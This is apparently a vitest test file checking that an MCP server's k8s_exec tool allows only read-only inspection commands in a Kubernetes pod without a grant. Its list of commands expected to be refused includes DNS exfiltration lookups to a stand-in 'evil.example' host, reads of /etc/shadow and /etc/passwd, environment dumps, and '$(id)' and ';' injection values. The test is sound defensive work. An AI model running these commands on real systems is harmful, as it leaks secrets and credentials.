import type { ToolAnswer } from '@fairlead/contract/tool/tool-meta'
import type { ApiServer } from '@fairlead/testing/cluster/api-server'
import { requireNodes } from '@fairlead/testing/cluster/require-nodes'
import { sharedApiServer } from '@fairlead/testing/shared/shared-servers'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { startTestMcp, type TestMcp } from '../../fixtures/mcp-server.fixture.ts'
import { startRecordingProxy } from '../../fixtures/recording-proxy.fixture.ts'
import { containers, makePod, runningIfItCan } from '../../fixtures/tools/simulated-pod.fixture.ts'

/** Each letter as a flag of its own, and all of them as one. */
const flags = (program: string, letters: string) => [
  `${program} -${letters}`,
  ...[...letters].map((letter) => `${program} -${letter}`),
]
const columns = ['pid', 'ppid', 'user', 'stat', 'ni', 'pcpu', 'pmem', 'rss', 'vsz', 'etime', 'time', 'comm']

/** Each program with each argument that it may have. */
const looking: Record<string, readonly string[]> = {
  ls: ['ls', ...flags('ls', '1AFRSadhilnrtu'), 'ls /var/log a.b_c@d:e+f,g=h-i'],
  ps: ['ps', 'ps aux', 'ps -e', 'ps -ef', 'ps -A', ...[...columns, columns.join()].map((list) => `ps -o ${list}`)],
  df: ['df', ...flags('df', 'ahiklPTm'), 'df /data'],
  du: ['du', ...flags('du', 'achklmsx'), 'du -d 2', 'du --max-depth=1', 'du /var /tmp'],
  date: ['date', 'date -u', 'date -R', 'date -I', 'date -u +%Y-%m-%dT%H:%M:%S_./'],
  id: ['id', ...flags('id', 'Ggnru'), 'id root'],
  uname: ['uname', ...flags('uname', 'amnoprsv')],
  hostname: ['hostname', ...['-f', '-i', '-I', '-s', '-d'].map((flag) => `hostname ${flag}`)],
  uptime: ['uptime', 'uptime -p', 'uptime -s'],
  free: ['free', ...flags('free', 'bghkmtw')],
  nproc: ['nproc', 'nproc --all'],
  ss: ['ss', ...flags('ss', '046Haeilmnoprstuwx')],
  netstat: ['netstat', ...flags('netstat', 'aegilnoprstuwx')],
}

const writing: readonly string[] = [
  ...Object.keys(looking).flatMap((program) => [
    `sh -c ${program}`,
    `/bin/${program}`,
    `./${program}`,
    `${program} -`,
    `${program} --help`,
    `${program} --version`,
    `${program} '$(id)'`,
    `${program} 'a;b'`,
    `${program} a ../b`,
  ]),
  'du --files0-from=/etc/shadow',
  'du --exclude-from=/etc/shadow',
  // What a resolver is asked for, whoever answers for that name gets to know.
  'nslookup web.shop',
  'nslookup c2VjcmV0.evil.example',
  'nslookup -type=SRV web.shop',
  'getent hosts c2VjcmV0.evil.example',
  'getent passwd',
  'getent shadow',
  'date -s 2020-01-01',
  'date -f /etc/shadow',
  'hostname x',
  'hostname -F /etc/shadow',
  'ss -K',
  'ss -D x',
  'ss -F x',
  'ss -N x',
  'netstat -c',
  'free -s 1',
  'ps eww',
  'ps -o args',
  'nslookup web 8.8.8.8',
  'cat /etc/passwd',
  'env',
  'busybox ls',
  'LS',
]

let cluster: ApiServer
let namespace: string
let proxy: Awaited<ReturnType<typeof startRecordingProxy>>
let mcp: TestMcp
beforeAll(async () => {
  cluster = await sharedApiServer()
  namespace = await cluster.newNamespace('looks')
  proxy = await startRecordingProxy(cluster, (argv) => JSON.stringify(argv))
  const pod = { metadata: { name: 'web' }, spec: { containers: containers('app') } }
  await makePod(cluster, namespace, pod, runningIfItCan(cluster))
  mcp = await startTestMcp(proxy.kubeconfig)
})
afterAll(async () => {
  await mcp?.close()
  await proxy?.close()
})
beforeEach(() => {
  proxy.seen.length = 0
})

const streams = () => proxy.seen.filter(({ path }) => path.includes('/exec?'))

/** One after another: more than a server takes from one caller at once are refused. */
async function each(commands: readonly string[], run: (command: string) => Promise<void>): Promise<void> {
  for (const command of commands) await run(command)
}
const exec = (of: TestMcp, command: string): Promise<ToolAnswer> =>
  of.call('k8s_exec', { pod_name: 'web', command, namespace })

describe('without a grant', () => {
  test.each(Object.entries(looking))('%s runs with each argument that it may have', async (_, commands) => {
    requireNodes(cluster)
    await each(commands, async (command) => {
      expect(await exec(mcp, command), command).toMatchObject({
        error: false,
        output: JSON.stringify(command.split(' ')),
        data: { exit_code: 0 },
      })
    })
    expect(streams()).toHaveLength(commands.length)
  })

  test('everything else is refused, and nothing is asked', async () => {
    await each(writing, async (command) => {
      expect(await exec(mcp, command), command).toMatchObject({ code: 'Refused', data: { grant_error: 'missing' } })
    })
    expect(proxy.seen).toEqual([])
  })

  test('all is refused where the setting is off', async () => {
    const strict = await startTestMcp(proxy.kubeconfig, { env: { EXEC_READ_ALLOWLIST: 'off' } })
    try {
      proxy.seen.length = 0
      await each([...Object.values(looking).flat(), ...writing], async (command) => {
        expect(await exec(strict, command), command).toMatchObject({
          code: 'Refused',
          data: { grant_error: 'missing' },
        })
      })
      expect(proxy.seen).toEqual([])
    } finally {
      await strict.close()
    }
  })

  test('a pod is never run', async () => {
    const commands = Object.values(looking).map(([command = '']) => command)
    await each(commands, async (command) => {
      const args = { name: 'x', image: 'busybox:1', command, namespace }
      expect(await mcp.call('k8s_run_pod', args)).toMatchObject({ code: 'Refused', data: { grant_error: 'missing' } })
    })
    expect(proxy.seen).toEqual([])
  })
})
